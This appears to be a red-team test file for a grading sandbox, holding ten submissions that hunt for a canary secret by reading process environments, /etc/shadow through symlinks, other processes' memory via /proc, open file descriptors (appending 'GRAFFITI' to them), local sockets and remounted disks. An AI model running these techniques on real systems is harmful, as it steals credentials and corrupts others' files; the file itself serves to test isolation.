"""Reading what students must not see; what is found is told in an error, on the page."""

from __future__ import annotations

from tests.redteam.attack import CANARY_PATTERN, code, family

secrets = family("reading secrets")

LOOK = code(f"""
    import contextlib, os, re

    PATTERN = re.compile(rb"{CANARY_PATTERN}")

    def tell(data, where):
        found = PATTERN.search(data)
        if found:
            print(found[0].decode())
            raise ValueError(f"{{where}}: {{found[0].decode()}}")

    def read(path, most=2**20):
        with contextlib.suppress(OSError):
            with open(path, "rb") as file:
                return file.read(most)
        return b""
""")


def looking(name: str, tries: str, body: str, **more: object) -> object:
    """An answer that looks for secrets before it answers wrong."""
    return secrets(name, tries, f"{LOOK}\n{code(body)}", **more)


ATTACKS = [
    looking(
        "reads_environment",
        "reads the environment of every process",
        """
        def quarter(x):
            tell(repr(dict(os.environ)).encode(), "environ")
            for process in filter(str.isdigit, os.listdir("/proc")):
                for name in ("environ", "cmdline"):
                    tell(read(f"/proc/{process}/{name}"), f"/proc/{process}/{name}")
            return x
        """,
    ),
    looking(
        "reads_files",
        "reads every small file it can reach, outside of Python's own",
        """
        def quarter(x):
            for top in ("/home", "/root", "/tmp", "/etc", "/srv", "/var", "/sandbox", "/opt"):
                for folder, folders, files in os.walk(top):
                    folders[:] = [f for f in folders if f not in ("site-packages", "proc", "sys")]
                    for file in files[:2000]:
                        path = os.path.join(folder, file)
                        with contextlib.suppress(OSError):
                            if os.path.isfile(path) and os.path.getsize(path) < 2**20:
                                tell(read(path), path)
            return x
        """,
    ),
    looking(
        "reads_upwards",
        "reads secrets beside, above and in the folders it knows by name",
        """
        def quarter(x):
            here = os.getcwd()
            places = [here, os.path.expanduser("~"), "/proc/1/cwd", "/proc/1/root"]
            while here != "/":
                here = os.path.dirname(here)
                places.append(here)
            for place in places:
                for name in ("secret.txt", "home/secret.txt", "autograder/secret.txt",
                             "gradebook.db", "course/secret.txt", ".env"):
                    tell(read(f"{place}/{name}"), f"{place}/{name}")
            return x
        """,
    ),
    looking(
        "reads_other_memory",
        "reads the memory of the other processes through /proc",
        """
        def quarter(x):
            for process in filter(str.isdigit, os.listdir("/proc")):
                if int(process) == os.getpid():
                    continue
                with contextlib.suppress(OSError), open(f"/proc/{process}/mem", "rb", 0) as memory:
                    for line in read(f"/proc/{process}/maps").decode().splitlines():
                        if "[heap]" in line or "[stack]" in line:
                            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                            with contextlib.suppress(OSError):
                                memory.seek(begin)
                                tell(memory.read(min(end - begin, 2**26)), f"memory of {process}")
            return x
        """,
    ),
    looking(
        "reads_inherited_memory",
        "reads all that its own process may write, for what was there before it",
        """
        def quarter(x):
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    span, rights = line.split()[:2]
                    if not rights.startswith("rw"):
                        continue
                    begin, end = (int(part, 16) for part in span.split("-"))
                    for place in range(begin, end, 2**24):
                        with contextlib.suppress(OSError):
                            memory.seek(place)
                            tell(memory.read(min(end - place, 2**24)), f"memory {line}")
            return x
        """,
    ),
    looking(
        "reads_descriptors",
        "opens every file that any process holds open",
        """
        def quarter(x):
            for process in filter(str.isdigit, os.listdir("/proc")):
                with contextlib.suppress(OSError):
                    for number in os.listdir(f"/proc/{process}/fd"):
                        path = f"/proc/{process}/fd/{number}"
                        if os.path.isfile(path):
                            tell(read(path), path)
                            with contextlib.suppress(OSError), open(path, "ab") as file:
                                file.write(b"GRAFFITI")
            return x
        """,
    ),
    looking(
        "reads_through_links",
        "makes links in its work folder to files outside, and reads them",
        """
        def quarter(x):
            for number, path in enumerate(("/proc/1/root", "/home", "/root", "/etc/shadow")):
                with contextlib.suppress(OSError):
                    os.symlink(path, f"link{number}")
                for name in ("", "/secret.txt", "/etc/passwd"):
                    tell(read(f"link{number}{name}"), path)
            return x
        """,
    ),
    looking(
        "listens_to_sockets",
        "connects to every abstract socket and every local port that it hears of",
        """
        import socket

        def quarter(x):
            for line in read("/proc/net/unix").decode().splitlines()[1:]:
                name = line.split()[-1]
                if name.startswith("@"):
                    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
                        client.connect("\\0" + name[1:])
                        raise ValueError(f"connected to {name}")
            for port in (22, 80, 443, 5432, 8786, 8787, 8888):
                with contextlib.suppress(OSError), socket.socket() as client:
                    client.settimeout(0.1)
                    client.connect(("127.0.0.1", port))
                    raise ValueError(f"connected to port {port}")
            return x
        """,
    ),
    looking(
        "watches_files",
        "waits with inotify for what others write",
        """
        import ctypes, select

        def quarter(x):
            libc = ctypes.CDLL(None)
            watcher = libc.inotify_init1(0o4000)
            for folder in ("/tmp", "/dev/shm", "/home", "/", "/proc/1/root/tmp"):
                libc.inotify_add_watch(watcher, folder.encode(), 0xFFF)
            select.select([watcher], [], [], 1.0)
            with contextlib.suppress(OSError):
                raise ValueError(f"seen: {os.read(watcher, 4096)!r}")
            return x
        """,
        forbidden=("seen: b",),
    ),
    looking(
        "makes_new_namespaces",
        "mounts the disk anew in namespaces of its own",
        """
        import ctypes

        def quarter(x):
            libc = ctypes.CDLL(None)
            if libc.unshare(0x10000000 | 0x20000) == 0:
                for device in (b"/dev/vda", b"/dev/sda1", b"proc"):
                    libc.mount(device, b"/tmp", b"proc" if device == b"proc" else b"ext4", 0, None)
                tell(read("/tmp/home/secret.txt") + read("/tmp/1/environ"), "mounted")
            return x
        """,
    ),
]
